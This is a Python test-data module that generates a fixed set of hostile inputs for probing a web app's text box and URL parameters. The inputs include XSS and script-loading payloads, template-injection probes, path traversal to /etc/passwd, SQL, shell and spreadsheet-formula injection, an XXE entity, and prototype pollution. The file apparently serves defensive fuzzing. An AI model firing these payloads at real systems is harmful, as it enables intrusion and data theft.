"""Five hundred texts and addresses that somebody might craft against the page: categories times templates.

The same on every machine: nothing here is drawn by chance.
"""

import itertools
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field

CANARY = "window.__hit=(window.__hit||0)+1"
PRODUCT = "1337*1337"
PRODUCT_SAYS = "1787569"
"""What a template engine makes of `PRODUCT`, which no text here holds."""

JUNCTIONS = (
    "{}",
    "good {} film",
    '"{}',
    "'{}",
    "{} {}",
    "a{}b",
    "{}\nnot good",
    "wow, {}!",
)
"""How a payload stands in a text."""

PAYLOADS: Mapping[str, tuple[str, ...]] = {
    "script": (
        f"<script>{CANARY}</script>",
        f"</script><script>{CANARY}</script>",
        f"<ScRiPt>{CANARY}//",
        "<script src=//192.0.2.1/x.js></script>",
        f"<template><script>{CANARY}</script></template>",
        f"<!--><script>{CANARY}</script>-->",
        f"javascript:{CANARY}//",
    ),
    "handler": (
        f"<img src=x onerror={CANARY}>",
        f"<svg onload={CANARY}>",
        f"<svg/onload={CANARY}>",
        f'<body onpageshow="{CANARY}">',
        f'<details open ontoggle="{CANARY}">x</details>',
        f'" autofocus onfocus="{CANARY}',
        f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    ),
    "markup": (
        "<a href=javascript:window.__hit=1>x</a>",
        "<b>bold</b><h1>big</h1>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//192.0.2.1/x.css>",
        "<meta http-equiv=refresh content=0;url=//192.0.2.1>",
        "<form action=//192.0.2.1><input name=x></form>",
        "&lt;b&gt; &#x3c;script&#x3e; &amp;",
        "<base href=//192.0.2.1/>",
    ),
    "template": (
        f"{{{{{PRODUCT}}}}}",
        f"${{{PRODUCT}}}",
        f"<%= {PRODUCT} %>",
        f"#{{{PRODUCT}}}",
        f"{{% print({PRODUCT}) %}}",
        "{0} {} {text} {words}",
        "%s %d %(text)s %n %x",
        "{{constructor.constructor('window.__hit=1')()}}",
        "{text.__class__.__mro__}",
    ),
    "path": (
        "/etc/passwd",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/proc/self/environ",
        "checkpoints/../app.py",
        "con nul aux",
    ),
    "markdown": (
        ":red[danger]",
        "[link](javascript:window.__hit=1)",
        "![picture](x)",
        "**bold** _slanted_ ~~struck~~ `code`",
        "# heading\n- item\n> quote",
        ":material/home: :smile: :tada:",
        ":blue-background[x] :small[y]",
        "[ref]: //192.0.2.1 'x'\n[ref]",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "<https://192.0.2.1>",
    ),
    "latex": (
        "$$\\int x$$",
        "$x^2$",
        "\\(x\\) \\[y\\]",
        "$\\href{javascript:window.__hit=1}{x}$",
        "$\\input{/etc/passwd}$",
        "$\\def\\x{\\x\\x}\\x$",
    ),
    "bidi": (
        "\u202egnp.exe",
        "\u2066good\u2069 \u2067bad",
        "שלום good العربية",
        "\u200fgood\u200e",
        "\u061cgood",
        "a\u202e\u202e\u202eb",
    ),
    "invisible": (
        "go\u200bod",
        "\ufeffgood",
        "good\u00adness",
        "\U000e0067\U000e006f good",
        "g\u0301\u0302\u0303\u0304\u0305\u0306ood",
        "\u2028\u2029",
        "good\x00film",
        "\x1b[31mred\x07",
        "\ud800 good \udfff",
        "\uffff\ufffe",
    ),
    "emoji": (
        "👨‍👩‍👧‍👦",
        "👍🏽👍🏿",
        "🇻🇳🇩🇪",
        "🏴\U000e0067\U000e0062\U000e007f",
        "❤️‍🔥",
    ),
    "query": (
        "'; drop table words; --",
        "' or '1'='1",
        "$(touch /tmp/x) `id` | id && id",
        "=cmd|'/c calc'!A0",
        "*)(uid=*",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        '{"__proto__": {"x": 1}}',
        "__proto__ constructor toString hasOwnProperty",
        "null undefined NaN true [object Object]",
    ),
}

NAMES = (
    "lang",
    "net",
    "part",
    "word",
    "unit",
    "order",
    "rows",
    "curves",
    "scale",
    "bars",
    "detail",
    "memory",
    "present",
    "textz",
)
"""Parameters of the first page."""

ELSEWHERE = {
    "compare": ("compare", "net", "beside", "besidepart", "otherz", "signal", "scale"),
    "gradients": ("view", "weights", "lines", "which", "cells", "steps", "hidden", "radius", "forget", "seeds"),
    "translate": (
        "sourcez",
        "translator",
        "mode",
        "given",
        "prefix",
        "hidden",
        "cell",
        "other",
        "panel",
        "moment",
        "unit",
    ),
    "lesson": ("chapter", "reads", "layer", "net", "word"),
    "units": ("net", "unit", "signal", "end", "section", "first", "last", "threshold", "alone"),
}
"""Parameters of the other pages."""

VALUES: Mapping[str, str] = {
    "huge": "9" * 400,
    "negative": "-99999999999999999999",
    "float": "1e308",
    "not a number": "NaN",
    "endless": "-Infinity",
    "empty": "",
    "script": f"<script>{CANARY}</script>",
    "handler": f'"><img src=x onerror={CANARY}>',
    "markdown": "[x](javascript:window.__hit=1) $$x$$ :red[y]",
    "template": f"{{{{{PRODUCT}}}}}${{{PRODUCT}}}",
    "path": "../../../../etc/passwd",
    "nul": "a\x00b",
    "bidi": "\u202e\u2066x",
    "lists": "a,,b,none,a",
    "long": "x" * 4_000,
    "other digits": "\u0663\uff11",
}


@dataclass(frozen=True)
class Attempt:
    """One try: a `text` that is typed or stands in the address, or nonsense in the `query` of a `page`."""

    category: str
    text: str | None = None
    query: Mapping[str, str] = field(default_factory=dict)
    page: str = ""

    @property
    def typed(self) -> bool:
        """Whether it is put into the box of an open page."""
        return self.text is not None and not self.query and not self.page


def _texts() -> Iterator[Attempt]:
    """Every payload in every other junction; every twentieth text stands in an address instead of being typed."""
    count = itertools.count()
    for category, payloads in PAYLOADS.items():
        for row, payload in enumerate(payloads):
            for junction in JUNCTIONS[row % 2 :: 2]:
                text = junction.replace("{}", payload)
                if next(count) % 20 == 19:
                    page = ("", "compare", "gradients")[next(count) % 3]
                    yield Attempt(f"{category} by link", text, {"text": text, **_VIEWS[page]}, page)
                else:
                    yield Attempt(category, text)


_VIEWS: Mapping[str, Mapping[str, str]] = {
    "": {"lang": "en"},
    "compare": {"compare": "texts", "other": "good film", "lang": "en"},
    "gradients": {"view": "sentence", "lang": "en"},
}


def _addresses() -> Iterator[Attempt]:
    """One value in one parameter, in turn, and every value in all parameters of a page at once."""
    places = [("", name) for name in NAMES] + [(page, name) for page, names in ELSEWHERE.items() for name in names]
    values = list(VALUES.items())
    for number, (page, name) in enumerate(places):
        for step in range(3):
            kind, value = values[(3 * number + step + number // 5) % len(values)]
            yield Attempt(f"address: {kind}", query={name: value}, page=page)
    for kind, value in values:
        for page, names in {"": NAMES, **ELSEWHERE}.items():
            yield Attempt(f"address full of: {kind}", query=dict.fromkeys(names, value), page=page)


def attempts() -> tuple[Attempt, ...]:
    """All of them, those that are typed first, so that one open page takes them one after another."""
    found = [*_texts(), *_addresses()]
    return tuple(sorted(found, key=lambda attempt: not attempt.typed))


def sample() -> tuple[Attempt, ...]:
    """About twenty-five: of every category of text one that is typed, and a few addresses."""
    everything = attempts()
    typed = [next(a for a in everything if a.category == category) for category in PAYLOADS]
    typed += [a for a in everything if a.typed][11::36]
    opened = [a for a in everything if not a.typed]
    return (*typed, *opened[:: -(-len(opened) // 5)])
